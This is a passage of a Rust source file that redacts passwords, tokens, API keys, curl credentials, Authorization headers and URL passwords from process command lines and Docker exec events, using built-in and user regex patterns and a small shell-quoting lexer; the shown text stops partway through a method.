//! Secrets redacted from command lines (`redact`), on by default: in our events' `process.args`
//! (and so `process.command_line`), the start-up inventory's, and the `Action` (and legacy
//! `status`) of Docker's `exec_create`/`exec_start` events. A Docker event is copied only when a
//! pattern matches; every other one stays byte for byte as Docker sent it.
//!
//! Built-in patterns (docs/EVENTS.md, "Secrets"), each replacing only the secret with
//! [`MARK`]:
//! - `-pSECRET` for MySQL-style clients (`mysql`, `mysqldump`, `mysqladmin`, `mariadb`, ...)
//!   named as the command (`mysql -pX`, `env mysql -pX`, `sudo mysql -pX`, `timeout 5 mysql
//!   -pX`, `sh -c "cd /x && mysql -pX"`; `command`), as are curl's credentials and sshpass's
//!   and OpenSSL's pass phrases below: a file named `/tmp/openssl` does not hide what follows
//!   it;
//! - `--NAME=X`, `--NAME X`, `-NAME=X`, `-NAME X` (any case) for an option whose name ends in
//!   `password`, `passwd`, `token`, `secret`, `apikey`, `api-key` or `api_key` (`--password`,
//!   `--db-password`, `-token`, `--client-secret`, `--api-key`), and `--pass`; not a flag whose
//!   name starts with `no-`, `ask-`, `prompt-`, `print-`, `show-`, `skip-` or `with-`
//!   (`--no-password`, `--ask-vault-password`), nor another name (`--password-file
//!   /run/secrets/x` names a file: it stays);
//! - assignments to names containing `PASSWORD`/`PASSWD`, or `SECRET`/`TOKEN` after `_` or as the
//!   name's first word, or ending in `_PASS`, `API_KEY`, `APIKEY` or `PRIVATE_KEY`, and
//!   `MYSQL_PWD` (`DB_PASSWORD=x`, `AWS_SECRET_ACCESS_KEY=x`, `GITHUB_TOKEN=x`, `SECRET_KEY=x`,
//!   `RABBITMQ_DEFAULT_PASS=x`, `OPENAI_API_KEY=x`; not `TOKENIZER=x`, nor a name ending in
//!   `_FILE`, which holds a path: `POSTGRES_PASSWORD_FILE=/run/secrets/db`);
//! - curl's `-u USER:SECRET`, `--user USER:SECRET` (and `-U`, `--proxy-user`): what follows the
//!   first colon;
//! - `Authorization: Bearer X` (and `Basic`, `Token`);
//! - `scheme://user:SECRET@host` and `scheme://:SECRET@host`: the secret runs to the last `@`
//!   before a `/` or a space, as curl and urllib read it (`https://bob:p@ss@h`).
//!
//! A secret of the first four is a whole shell word (`word_end`): quoted parts (`'a b'`,
//! `"a\"b c"`, `$'a\'b'`), `$(...)`, backslash escapes and unquoted characters up to a space or
//! one of `;&|()<>`; in quotes, up to their end (`-e "DB_PASSWORD=a b"`) or, when they hold a
//! script (`su -c "mysql -pX -e ..."`), to the end of the script's word. An argument of an argv that is an option with its value (`--password=a b`) has all
//! of the value as its secret, and the argument after a secret option (`--password X`) is one
//! whole.
//!
//! User patterns (`redact.patterns`) are regular expressions whose first capture group is the
//! secret.
use std::{borrow::Cow, ops::Range, sync::OnceLock};

use regex::{Captures, Regex, RegexSet};

mod command;

use command::{Commands, MYSQL_CLIENTS, Reader, Tool};

/// What a secret is replaced with.
pub const MARK: &str = "[REDACTED]";

/// An option whose name (after `-` or `--`, in any case) ends with one of these takes a secret.
const SECRET_SUFFIXES: &[&str] = &["password", "passwd", "token", "secret", "apikey", "api-key", "api_key"];
/// Options that take a secret whose names end otherwise.
const SECRET_OPTIONS: &[&str] = &["pass"];
/// An option whose name starts with one of these is a flag, not a secret's name (`--no-password`,
/// `--ask-vault-password`, `--with-token`).
const FLAG_PREFIXES: &[&str] = &["no-", "no_", "ask-", "ask_", "prompt-", "print-", "show-", "skip-", "with-"];

/// Whether `arg` is an option whose value is a secret (`--password`, `--db-password`, `-token`,
/// not `--password-file` nor `--no-password`).
fn secret_option(arg: &str) -> bool {
    let Some(name) = arg.strip_prefix("--").or_else(|| arg.strip_prefix('-')) else { return false };
    if name.is_empty() || name.starts_with('-') || !name.chars().all(|c| c.is_alphanumeric() || c == '_' || c == '-') {
        return false;
    }
    // In any ASCII case, without a lowered copy (this runs on every option of every exec).
    let n = name.as_bytes();
    let starts = |p: &str| n.len() >= p.len() && n[..p.len()].eq_ignore_ascii_case(p.as_bytes());
    let ends = |s: &str| n.len() >= s.len() && n[n.len() - s.len()..].eq_ignore_ascii_case(s.as_bytes());
    SECRET_OPTIONS.iter().any(|o| name.eq_ignore_ascii_case(o))
        || (!FLAG_PREFIXES.iter().any(|p| starts(p)) && SECRET_SUFFIXES.iter().any(|s| ends(s)))
}

/// How a pattern's match names the secret.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    /// The first capture group (every user pattern).
    Group,
    /// The shell word starting at group `v` (`word_end`), when group `opt` (if any) is a secret
    /// option and group `env` (if any) does not name a file.
    Word,
    /// What follows the first colon of the shell word starting at group `v` (`USER:SECRET`).
    Credentials,
}

/// A tool's pattern: its option's value (group `v`) after its name (group `tool`, `names` in
/// any case) in the same command; the option alone (`option`) finds its next ones there.
fn tool_pattern(names: &str, option: &str, kind: Kind) -> (String, Kind, Option<String>) {
    (format!(r"\b(?P<tool>(?i:{names}))\b[^;&|\n]*?{option}"), kind, Some(option.to_owned()))
}

/// The built-in text patterns: each one's text, kind and, for a tool's, its option alone
/// ([`tool_pattern`]).
fn builtin() -> Vec<(String, Kind, Option<String>)> {
    vec![
        // A tool's options (group `tool`): only after it is named as a command (`command`).
        tool_pattern(&MYSQL_CLIENTS.join("|"), r#"\s["']?-p(?P<v>\S)"#, Kind::Word),
        (
            r#"(?i)(?:^|[\s'"=])(?P<opt>-{1,2}[\w-]*?(?:password|passwd|token|secret|api[-_]?key|pass))(?:=|\s+)(?P<v>\S)"#
                .to_owned(),
            Kind::Word,
            None,
        ),
        (
            r"(?i)\b(?P<env>[A-Z0-9_]*PASS(?:WORD|WD)[A-Z0-9_]*|[A-Z0-9_]*_(?:SECRET|TOKEN)[A-Z0-9_]*|(?:SECRET|TOKEN)(?:_[A-Z0-9_]*)?|[A-Z0-9_]*_PASS|MYSQL_PWD|SSHPASS|[A-Z0-9_]*API_?KEY|[A-Z0-9_]*PRIVATE_KEY)=(?P<v>\S)"
                .to_owned(),
            Kind::Word,
            None,
        ),
        tool_pattern("curl", r"\s(?:-[uU]\s*|--(?:proxy-)?user(?:=|\s+))(?P<v>\S)", Kind::Credentials),
        // sshpass's `-p X` and `-pX`; OpenSSL's `-k X` (`-k=X`, `--k X`) and `-passin pass:X`
        // (`-passout`, `-pass`, `=` or `--` too; its other sources, `env:`, `file:`, `fd:`, name
        // where the secret is, not the secret).
        tool_pattern("sshpass", r"\s-p\s*(?P<v>\S)", Kind::Word),
        tool_pattern("openssl", r"\s--?k(?:=|\s+)(?P<v>\S)", Kind::Word),
        (r"(?:^|\s)--?pass(?:in|out)?(?:=|\s+)pass:(?P<v>\S)".to_owned(), Kind::Word, None),
        (r#"(?i)\bauthorization:\s*(?:bearer|basic|token)\s+([^\s'";]+)"#.to_owned(), Kind::Group, None),
        (r"(?i)\b[a-z][a-z0-9+.-]*://[^/\s:]*:([^/\s]+)@".to_owned(), Kind::Group, None),
    ]
}

#[derive(Debug, thiserror::Error)]
pub enum PatternError {
    #[error("not a regular expression: {0}")]
    Syntax(String),
    #[error("has no capture group: put the secret in one, e.g. `--db-key=(\\S+)`")]
    NoGroup,
}

/// Why a [`Redactor`] cannot be built.
#[derive(Debug, thiserror::Error)]
pub enum BuildError {
    #[error("redact.patterns[{0}]: {1}")]
    Pattern(usize, PatternError),
    #[error("a built-in secret pattern does not compile ({0}): this is a bug, please report it")]
    Builtin(String),
}

/// A built-in or user pattern, compiled.
#[derive(Debug)]
struct Pattern {
    re: Regex,
    kind: Kind,
    /// A tool's option alone, for a tool's pattern ([`tool_pattern`]).
    option: Option<Regex>,
}

#[derive(Debug)]
pub struct Redactor {
    /// Which patterns match a text, in one scan; `None` when all of them together are more than
    /// the regex crate compiles into one (then each is tried in turn).
    set: Option<RegexSet>,
    patterns: Vec<Pattern>,
    /// Whether there are user patterns, which `may_hold_builtin` knows nothing of.
    user: bool,
}

/// The words of the secret options' names, in `may_hold_builtin`.
const OPTION_WORDS: &[&str] = &["pass", "token", "secret", "apikey", "api-key", "api_key"];
/// The words `may_hold_builtin` looks for, in any ASCII case: `OPTION_WORDS`, then these.
const CURL: usize = OPTION_WORDS.len();
const AUTHORIZATION: usize = CURL + 1;
const OPENSSL: usize = CURL + 2;

/// Which of the words (`OPTION_WORDS`, "curl", "authorization:", "openssl") `hay` holds, in any ASCII
/// case, as bits by index (one pass); all of them if the searcher could not be built.
fn words_in(hay: &[u8]) -> u32 {
    static WORDS: std::sync::LazyLock<Option<aho_corasick::AhoCorasick>> = std::sync::LazyLock::new(|| {
        aho_corasick::AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .build(OPTION_WORDS.iter().copied().chain(["curl", "authorization:", "openssl"]))
            .ok()
    });
    match &*WORDS {
        Some(ac) => ac.find_overlapping_iter(hay).fold(0, |bits, m| bits | 1 << m.pattern().as_usize()),
        None => u32::MAX,
    }
}

/// Whether `text` may hold a secret of the built-in patterns, from what each needs: `-p`
/// (MySQL clients), `--` or `-` with a secret option's word (secret options), `=`
/// (assignments), `-u`/`-U` with `curl` (curl's credentials), `-k` with `openssl` (its pass
/// phrase), `://` with `@` (a URL's password) or `authorization:` in any case (a header; any non-ASCII text is left to the patterns, whose
/// case folding is Unicode's). Most arguments have none of them (`/bin/true`, a path, a word,
/// `-c`, `name-1`), and skipping the patterns for them saves a regular-expression scan per
/// argument of every exec.
fn may_hold_builtin(text: &str) -> bool {
    let b = text.as_bytes();
    if memchr::memchr3(b'-', b'=', b':', b).is_none() {
        return false;
    }
    // Needles of two or three bytes in an argument: a plain scan, which builds no searcher
    // (`memmem::find` would build one per call, six per argument).
    let has = |needle: &[u8]| b.windows(needle.len()).any(|w| w == needle);
    if has(b"-p")
        || has(b"--")
        || memchr::memchr(b'=', b).is_some()
        || (has(b"://") && memchr::memchr(b'@', b).is_some())
    {
        return true;
    }
    let (dash, colon) = (memchr::memchr(b'-', b).is_some(), memchr::memchr(b':', b).is_some());
    if !text.is_ascii() {
        // The patterns fold case beyond ASCII (`ſ` is an `s` to them): no word search then.
        return dash || colon;
    }
    let words = words_in(b);
    (dash && words & ((1 << OPTION_WORDS.len()) - 1) != 0)
        || ((has(b"-u") || has(b"-U")) && words & 1 << CURL != 0)
        || (colon && words & 1 << AUTHORIZATION != 0)
        || (has(b"-k") && words & 1 << OPENSSL != 0)
}

/// The quoting a shell reading a text as a script is in.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
enum Quote {
    #[default]
    None,
    Single,
    Double,
    /// `$'...'`, with backslash escapes.
    Ansi,
}

/// The kind of a quote inside double quotes written `\"` (`bash -c "x \"a b\""`).
const ESCAPED: u8 = b'\\';

/// Reads a text as a shell script, from its start to the positions asked, which never go back:
/// each byte is read once however many secrets the text holds. Inside quotes, which are often
/// around a script (`su -c "mysql -pX"`), it follows the quotes of that script too: one level.
#[derive(Debug, Default)]
struct Lexer {
    i: usize,
    q: Quote,
    /// Where the quoted text started (after its opening quote).
    from: usize,
    /// A space was read since.
    spaced: bool,
    /// The quote open inside `q` (`'`, `"`, or [`ESCAPED`]), and whether a space was read since.
    inner: Option<(u8, bool)>,
    /// The quoted text `close` found the end of (its `from`), and where its closing quote is.
    closed: Option<(usize, usize)>,
    /// In a `` `...` `` (out of single quotes): a backtick closes it.
    tick: bool,
}

impl Lexer {
    /// The quoting at `end`.
    fn at(&mut self, t: &[u8], end: usize) -> Quote {
        while self.i < end {
            let c = t[self.i];
            match (self.q, c) {
                (Quote::None, b'\\') => self.i += 1,
                (Quote::None, b'\'') => self.open(Quote::Single, self.i + 1),
                (Quote::None, b'"') => self.open(Quote::Double, self.i + 1),
                (Quote::None, b'$') if t.get(self.i + 1) == Some(&b'\'') => {
                    self.open(Quote::Ansi, self.i + 2);
                    self.i += 1;
                }
                (Quote::None | Quote::Double, b'`') => self.tick = !self.tick,
                (Quote::None, _) => {}
                (Quote::Single | Quote::Ansi, b'\'') | (Quote::Double, b'"') => {
                    (self.q, self.inner) = (Quote::None, None)
                }
                (Quote::Double, b'\\') if t.get(self.i + 1) == Some(&b'"') => {
                    self.inner_quote(ESCAPED);
                    self.i += 1;
                }
                (Quote::Double | Quote::Ansi, b'\\') => self.i += 1,
                (Quote::Double, b'\'') | (Quote::Single | Quote::Ansi, b'"') => self.inner_quote(c),
                _ if c.is_ascii_whitespace() => {
                    self.spaced = true;
                    if let Some((_, spaced)) = &mut self.inner {
                        *spaced = true;
                    }
                }
                _ => {}
            }
            self.i += 1;
        }
        self.q
    }

    fn open(&mut self, q: Quote, from: usize) {
        (self.q, self.from, self.spaced, self.inner) = (q, from, false, None);
    }

    /// A quote of the script inside the quotes: opens one, or closes the one of its kind.
    fn inner_quote(&mut self, kind: u8) {
        self.inner = match self.inner {
            None => Some((kind, false)),
            Some((k, _)) if k == kind => None,
            open => open,
        };
    }

    /// Where the quoted text the lexer is in closes (the end when it does not).
    fn close(&mut self, t: &[u8], close: u8) -> usize {
        match self.closed {
            Some((from, at)) if from == self.from => at,
            _ => {
                let at = match self.q {
                    Quote::Single => memchr::memchr(close, &t[self.i.min(t.len())..]).map(|k| self.i + k),
                    _ => closing(t, self.i, close),
                };
                let at = at.unwrap_or(t.len());
                self.closed = Some((self.from, at));
                at
            }
        }
    }
}

/// A space, a shell operator, or a backtick (a value ends where the `` `...` `` it is in does,
/// or where one starts): where an unquoted word ends.
fn ends_word(c: u8) -> bool {
    c.is_ascii_whitespace() || matches!(c, b';' | b'&' | b'|' | b'(' | b')' | b'<' | b'>' | b'`')
}

/// The first unescaped `c` in `t` from `i`.
fn closing(t: &[u8], mut i: usize, c: u8) -> Option<usize> {
    while i < t.len() {
        match t[i] {
            b'\\' => i += 2,
            x if x == c => return Some(i),
            _ => i += 1,
        }
    }
    None
}

/// The `)` that closes a `$(` whose text starts at `i`.
fn balanced(t: &[u8], mut i: usize) -> Option<usize> {
    let mut depth = 1;
    while i < t.len() {
        match t[i] {
            b'\\' => i += 1,
            b'(' => depth += 1,
            b')' if depth == 1 => return Some(i),
            b')' => depth -= 1,
            _ => {}
        }
        i += 1;
    }
    None
}

/// Where the shell word starting at `start` of `text` ends (a secret's value), `lex` having
/// read no further than `start`. Out of quotes: quoted parts (`'a b'`, `"a\"b c"`, `$'a\'b'`,
/// an unclosed one running to the end), `$(...)` and `` `...` ``, backslash escapes and other
/// characters up to a space or an operator (`;&|()<>`). Inside quotes that open the word
/// (`-e "DB_PASSWORD=a b"`): up to them closing, or to `;&|` or a line's end (what follows may be
/// a command). Inside quotes around a script (`su -c "mysql -pX -e ..."`, a space between the
/// quote and the value): a word of that script, up to a space, an operator or the closing quote,
/// with its own quoted parts (`\"a b\"` and the other quote), and the same again inside these.
/// Always on an ASCII character or the end: a `str` boundary. Linear: what it scans is the word,
/// but for the closing quote of a script, found once.
fn word_end(text: &str, start: usize, lex: &mut Lexer) -> usize {
    let t = text.as_bytes();
    let n = t.len();
    let (close, escapes) = match lex.at(t, start) {
        Quote::None => {
            let mut i = start;
            // A backtick ends the value only when it closes the `` `...` `` the value is in;
            // else it opens one, part of the value (`-p`cat /x``, `-phun`ter2`).
            while i < n && (!ends_word(t[i]) || (t[i] == b'`' && !lex.tick)) {
                i = match t[i] {
                    b'`' => memchr::memchr(b'`', &t[i + 1..]).map_or(n, |k| i + k + 2),
                    b'\\' => i + 2,
                    b'\'' => memchr::memchr(b'\'', &t[i + 1..]).map_or(n, |k| i + k + 2),
                    b'"' => closing(t, i + 1, b'"').map_or(n, |k| k + 1),
                    b'$' if t.get(i + 1) == Some(&b'\'') => closing(t, i + 2, b'\'').map_or(n, |k| k + 1),
                    b'$' if t.get(i + 1) == Some(&b'(') => balanced(t, i + 2).map_or(n, |k| k + 1),
                    _ => i + 1,
                };
            }
            return i.min(n);
        }
        Quote::Double => (b'"', true),
        Quote::Single => (b'\'', false),
        Quote::Ansi => (b'\'', true),
    };
    let mut i = start;
    // Ends a value in quotes: their closing, or an operator (what follows may be a command).
    let ends = |i: usize| t[i] == close || matches!(t[i], b';' | b'&' | b'|' | b'\n');
    if let Some((inner, spaced)) = lex.inner {
        // In quotes of the script in quotes: up to them closing (and a space if they are around
        // a script again).
        while i < n && !ends(i) && !(spaced && ends_word(t[i])) {
            if (inner == ESCAPED && t[i] == b'\\' && t.get(i + 1) == Some(&b'"')) || t[i] == inner {
                break;
            }
            i += if escapes && t[i] == b'\\' { 2 } else { 1 };
        }
        return i.min(n);
    }
    if !lex.spaced {
        while i < n && !ends(i) {
            i += if escapes && t[i] == b'\\' { 2 } else { 1 };
        }
        return i.min(n);
    }
    let stop = lex.close(t, close).max(start);
    while i < stop && !ends_word(t[i]) {
        i = match t[i] {
            b'\\' if close == b'"' && t.get(i + 1) == Some(&b'"') => {
                memchr::memmem::find(&t[(i + 2).min(stop)..stop], b"\\\"").map_or(i + 2, |k| i + k + 4)
            }
            b'\\' if escapes => i + 2,
            // The other quote, closed before the script's: quoted within the script.
            c @ (b'\'' | b'"') => memchr::memchr(c, &t[i + 1..stop]).map_or(i + 1, |k| i + k + 2),
            _ => i + 1,
        };
    }
    i.min(stop)
}

/// The secret of a `Word` or `Credentials` match, `None` when it has none.
///
/// `words`: the value is among a Docker exec's `Action` words, an argument's characters up to a
/// space (no quotes, no substitutions, no operators there).
fn word_secret(caps: &Captures, kind: Kind, text: &str, lex: &mut Lexer, words: bool) -> Option<Range<usize>> {
    if caps.name("opt").is_some_and(|o| !secret_option(o.as_str())) {
        return None;
    }
    if caps.name("env").is_some_and(|e| e.as_str().to_ascii_uppercase().ends_with("_FILE")) {
        return None;
    }
    let start = caps.name("v")?.start();
    let end = if words {
        text.as_bytes()[start..].iter().position(u8::is_ascii_whitespace).map_or(text.len(), |k| start + k)
    } else {
        word_end(text, start, lex)
    };
    if kind != Kind::Credentials {
        return Some(start..end);
    }
    let word = &text.as_bytes()[start..end];
    let colon = start + memchr::memchr(b':', word)? + 1;
    // A closing quote of the word stays (`-u 'bob:[REDACTED]'`).
    let quoted = word.len() >= 2 && matches!(word[0], b'\'' | b'"') && word[word.len() - 1] == word[0];
    Some(colon..if quoted && end > colon { end - 1 } else { end })
}

/// `text` with the secret of every match of `re` replaced by [`MARK`]; `None` when nothing was
/// replaced. A `Group` match without its secret goes on after the match (user patterns: as
/// `captures_iter`). A `Word` one left alone goes on from the character before its value (the
/// `=` or space an option's match may start with), so that it hides no other
/// (`--no-password --token=x`); one already replaced, after its value.
///
/// The matches are searched in `text`, or in `masked`, its copy with the same bytes but for
/// operators that separate no commands; `text` is read for its commands and replaced. After a
/// tool's option, its next ones in the same command are its too (`mysql -pA -e x -pB`).
fn replace(p: &Pattern, text: &str, masked: Option<&Masked>) -> Option<String> {
    let (re, kind) = (&p.re, p.kind);
    let (hay, words) = match masked {
        Some(m) => (m.text.as_str(), m.words),
        None => (text, command::action_words(text.as_bytes()).unwrap_or(0)),
    };
    debug_assert_eq!(hay.len(), text.len());
    let mut out = String::new();
    let (mut last, mut pos, mut replaced) = (0, 0, false);
    // A Docker exec's `Action`'s words are no shell's: its quoting is read from after them.
    let mut lex = Lexer { i: words, ..Lexer::default() };
    let mut reader = Reader::of(text.as_bytes());
    // The tool last named as a command, and that command (`Reader::names`).
    let mut named: Option<(Tool, u32)> = None;
    // The last search of the whole pattern: from where, and what it found. A match found from
    // before `pos` that starts at or after it is the one a search from `pos` finds (none found
    // then, none now): a tool's options read one by one do not search the text's rest again.
    let mut searched: Option<(usize, Option<usize>)> = None;
    while pos <= hay.len() {
        let full = match searched {
            Some((from, None)) if from <= pos => None,
            // (Read again from its start: the search is what was long.)
            Some((from, Some(start))) if from <= pos && start >= pos => re.captures_at(hay, start),
            _ => {
                let found = re.captures_at(hay, pos);
                searched = Some((pos, found.as_ref().and_then(|c| c.get(0)).map(|m| m.start())));
                found
            }
        };
        // The tool's next option, before the tool is named again.
        let option = match (named, &p.option) {
            (Some(_), Some(o)) => o.captures_at(hay, pos).filter(|c| {
                full.as_ref()
                    .and_then(|f| f.name("tool"))
                    .is_none_or(|t| c.get(0).is_some_and(|m| m.start() < t.start()))
            }),
            _ => None,
        };
        let (caps, same) = match (option, named) {
            (Some(c), Some((tool, cmd))) => {
                let at = c.name("v").map_or(pos, |v| v.start());
                if !reader.still_in(text.as_bytes(), at, cmd, tool) {
                    // Another command's (`mysql -pA $(echo -pB) -pC`): not the tool's; a tool
                    // named after it is the full pattern's to find.
                    pos = c.get(0).map_or(hay.len() + 1, |m| after(hay, m.start()));
                    continue;
                }
                (c, true)
            }
            _ => match full {
                Some(c) => (c, false),
                None => break,
            },
        };
        let Some(m) = caps.get(0) else { break };
        let secret = match kind {
            Kind::Group => caps.get(1).map(|g| g.range()),
            Kind::Word | Kind::Credentials => {
                if same || tool_named(&caps, text, &mut reader, &mut named) {
                    let in_words = caps.name("v").is_some_and(|v| v.start() < words);
                    word_secret(&caps, kind, text, &mut lex, in_words)
                } else {
                    None
                }
            }
        };
        pos = match secret {
            Some(r) if !r.is_empty() && &text[r.clone()] != MARK => {
                out.push_str(&text[last..r.start]);
                out.push_str(MARK);
                (last, replaced) = (r.end, true);
                if m.is_empty() { after(hay, m.end()) } else { r.end.max(m.end()) }
            }
            _ if kind == Kind::Group => {
                if m.is_empty() {
                    after(hay, m.end())
                } else {
                    m.end()
                }
            }
            Some(r) if !r.is_empty() => r.end.max(after(hay, m.start())),
            _ => {
                let v = caps.name("v").map_or(m.start(), |v| before(hay, v.start()));
                v.max(after(hay, m.start()))
            }
        };
    }
    if !replaced {
        return None;
    }
    out.push_str(&text[last..]);
    Some(out)
}

/// How dockerd's `exec_create` event's `Action` starts, before the command.
pub const EXEC_CREATE: &str = "exec_create: ";
/// How dockerd's `exec_start` event's `Action` starts, before the command.
pub const EXEC_START: &str = "exec_start: ";

/// Whether `text` is a Docker exec's `Action` (`exec_create: CMD`, `exec_start: CMD`): an argv
/// joined with spaces, not a shell line, up to a shell's `-c`.
pub fn is_action(text: &[u8]) -> bool {
    text.starts_with(EXEC_CREATE.as_bytes()) || text.starts_with(EXEC_START.as_bytes())
}

/// `text` with the shell operators that separate no commands (`;`, `&`, `|`, a line's end, in
/// quotes, and in a Docker exec's `Action` before a shell's `-c`, where Docker joined an argv
/// with spaces and they are an argument's characters) made [`MASK`], for the tools' patterns,
/// which end at an operator:
/// `mysql -e "select 1; select 2" -pX`, `exec_create: mysql -e select 1; select 2 -pX`. Whether
/// the tool is the command is for `Reader`, which reads `text` itself (`exec_create: wget -O
/// /tmp/x;openssl -k URL` names no openssl). `None` when there is none.
fn operators_masked(text: &str) -> Option<Masked> {
    let b = text.as_bytes();
    let operator = |c: &u8| matches!(*c, b';' | b'&' | b'|' | b'\n');
    if !b.iter().any(operator) {
        return None;
    }
    let words = command::action_words(b).unwrap_or(0);
    let mut out = b.to_vec();
    let mut masked = false;
    let mut lex = Lexer { i: words, ..Lexer::default() };
    for (i, c) in out.iter_mut().enumerate().filter(|(_, c)| operator(c)) {
        if i < words {
            (*c, masked) = (MASK, true);
        } else if *c == b'\n' && i > 0 && b[i - 1] == b'\\' {
            // A line continuation: a space between two words of one command.
            (*c, masked) = (b' ', true);
        } else if lex.at(b, i) != Quote::None {
            // A line's end in quotes is a space to the tools' patterns (`\s-p`), whether it
            // separates a script's words or a text's lines.
            (*c, masked) = (if *c == b'\n' { b' ' } else { MASK }, true);
        }
    }
    if !masked {
        return None;
    }
    Some(Masked { text: String::from_utf8(out).ok()?, words })
}

/// Whether `t` has a tool's option after a space (`\s-p`, `\s-u`, `\s-U`, `\s-k`, `\s--k`,
/// `\s--user`, `\s--proxy-user`; a quote may open before it: `\s"-p`): the tools' patterns
/// need one, in `t` as in its [`operators_masked`] copy (which makes no space but of a line's
/// end, itself a space to them). Without one, the copy is not made.
fn may_hold_tool_option(t: &[u8]) -> bool {
    memchr::memchr_iter(b'-', t).any(|i| {
        let space = |k: usize| k > 0 && t[k - 1].is_ascii_whitespace();
        (space(i) || (i > 0 && matches!(t[i - 1], b'"' | b'\'') && space(i - 1)))
            && match t.get(i + 1) {
                Some(b'p' | b'u' | b'U' | b'k') => true,
                Some(b'-') => {
                    let rest = &t[i + 2..];
                    rest.starts_with(b"user")
                        || rest.starts_with(b"proxy-user")
                        || (rest.starts_with(b"k") && rest.get(1).is_none_or(|c| *c == b'=' || c.is_ascii_whitespace()))
                }
                _ => false,
            }
    })
}

/// What [`operators_masked`] puts in an operator's place: no word character (the tools'
/// patterns start at a word boundary: `cd /x&&mysql -pX`), no space, no operator.
const MASK: u8 = b',';

/// A text's copy from [`operators_masked`].
struct Masked {
    text: String,
    /// Where the words of a Docker exec's `Action` end (0 for other texts): a value before is a
    /// word up to a space (`-phun;ter2`), after it a shell's (`-phunter2; do`).
    words: usize,
}

/// Whether the match of a tool's option (group `tool`) follows the tool named as a command
/// (`mysql -pX`, `sudo mysql -pX`), not an argument with its name (`curl -o /tmp/mysql -pX`),
/// and then that tool and its command in `named`; true for the patterns of no tool.
fn tool_named(caps: &Captures, text: &str, reader: &mut Reader, named: &mut Option<(Tool, u32)>) -> bool {
    let (Some(t), Some(v)) = (caps.name("tool"), caps.name("v")) else { return true };
    let Some(tool) = command::tool(t.as_str()) else { return false };
    let yes = reader.names(text.as_bytes(), t.start(), v.start(), tool);
    *named = yes.then(|| (tool, reader.command()));
    yes
}

/// The next character's start after `i` (past the end: `text.len() + 1`).
fn after(text: &str, i: usize) -> usize {
    i + text[i..].chars().next().map_or(1, char::len_utf8)
}

/// The start of the character before `i`.
fn before(text: &str, i: usize) -> usize {
    text[..i].chars().next_back().map_or(0, |c| i - c.len_utf8())
}

/// What the argument after the current one is, for `Redactor::args`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Next {
    Plain,
    /// The value of a secret option (`--password X`).
    Secret,
    /// curl's `USER:SECRET` (`-u X`).
    Credentials,
    /// OpenSSL's pass phrase argument (`-passin X`): `pass:SECRET`, or where the secret is.
    OpensslPass,
}

/// OpenSSL's options that take a pass phrase, in an argv after `openssl`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum OpensslOption {
    /// `-k`: the pass phrase.
    K,
    /// `-passin`, `-passout`, `-pass`: where the pass phrase is (`pass:X`, or `env:`, `file:`,
    /// `fd:`, which name where it is).
    Pass,
}

/// The OpenSSL pass phrase option `arg` is (one or two dashes), and where its value starts when
/// it holds it (`-k=X`, `-passin=pass:X`).
fn openssl_option(arg: &str) -> Option<(OpensslOption, Option<usize>)> {
    let name = arg.strip_prefix("--").or_else(|| arg.strip_prefix('-'))?;
    let (name, value) = match name.split_once('=') {
        Some((n, _)) => (n, Some(arg.len() - name.len() + n.len() + 1)),
        None => (name, None),
    };
    match name {
        "k" => Some((OpensslOption::K, value)),
        "passin" | "passout" | "pass" => Some((OpensslOption::Pass, value)),
        _ => None,
    }
}

/// `arg` with the secret of OpenSSL's `pass:X` at `at` replaced; `None` when it holds none there.
fn pass_phrase(arg: &str, at: usize) -> Option<String> {
    match arg.get(at..)?.strip_prefix("pass:") {
        Some(v) if !v.is_empty() && v != MARK => Some(format!("{}pass:{MARK}", &arg[..at])),
        _ => None,
    }
}

/// `arg` with what follows its first colon from `at` replaced (`USER:SECRET`); `None` when it has
/// no secret there.
fn credentials(arg: &str, at: usize) -> Option<String> {
    let colon = at + arg.get(at..)?.find(':')?;
    let secret = &arg[colon + 1..];
    (!secret.is_empty() && secret != MARK).then(|| format!("{}{MARK}", &arg[..=colon]))
}

impl Redactor {
    /// The built-in patterns and `user` ones.
    pub fn new(user: &[String]) -> Result<Redactor, BuildError> {
        for (i, p) in user.iter().enumerate() {
            check(p).map_err(|e| BuildError::Pattern(i, e))?;
        }
        let builtin = builtin();
        let n = builtin.len();
        let all: Vec<(String, Kind, Option<String>)> =
            builtin.into_iter().chain(user.iter().map(|p| (p.clone(), Kind::Group, None))).collect();
        let mut patterns = Vec::with_capacity(all.len());
        for (i, (p, kind, option)) in all.iter().enumerate() {
            // The built-in ones are tested; a user one was checked above.
            let re = Regex::new(p).map_err(|e| match i.checked_sub(n) {
                Some(u) => BuildError::Pattern(u, PatternError::Syntax(e.to_string())),
                None => BuildError::Builtin(e.to_string()),
            })?;
            let option = match option {
                Some(o) => Some(Regex::new(o).map_err(|e| BuildError::Builtin(e.to_string()))?),
                None => None,
            };
            patterns.push(Pattern { re, kind: *kind, option });
        }
        // Each pattern compiles alone; all of them together may be over the regex crate's size
        // limit: then each is tried in turn (slower), none is dropped.
        let set = match RegexSet::new(all.iter().map(|(p, ..)| p)) {
            Ok(set) => Some(set),
            Err(e) if user.is_empty() => return Err(BuildError::Builtin(e.to_string())),
            Err(e) => {
                tracing::warn!(
                    error = %e,
                    patterns = user.len(),
                    "redact.patterns are too big to be matched together: each is tried in turn, which \
                     is slower. Shorten them, or merge them into fewer patterns"
                );
                None
            }
        };
        Ok(Redactor { set, patterns, user: !user.is_empty() })
    }

    /// `text` with every secret the patterns find replaced; borrowed when there is none.
    pub fn text<'a>(&self, text: &'a str) -> Cow<'a, str> {
        if !self.user && !may_hold_builtin(text) {
            return Cow::Borrowed(text);
        }
        let mut hits: Vec<usize> = match &self.set {
            Some(set) => set.matches(text).into_iter().collect(),
            None => (0..self.patterns.len()).filter(|&i| self.patterns[i].re.is_match(text)).collect(),
        };
        // A tool's options after a `;` that separates no commands (`operators_masked`).
        let masked = if may_hold_tool_option(text.as_bytes()) { operators_masked(text) } else { None };
        if let Some(masked) = &masked {
            for (i, p) in self.patterns.iter().enumerate() {
                if p.option.is_some() && !hits.contains(&i) && p.re.is_match(&masked.text) {
                    hits.push(i);
                }
            }
            hits.sort_unstable();
        }
        let mut out = Cow::Borrowed(text);
        for i in hits {
            let p = &self.patterns[i];
            // The text's own copy while nothing was replaced, else the new text's (a value
            // replaced may have held the operators).
            let fresh;
            let m = match &out {
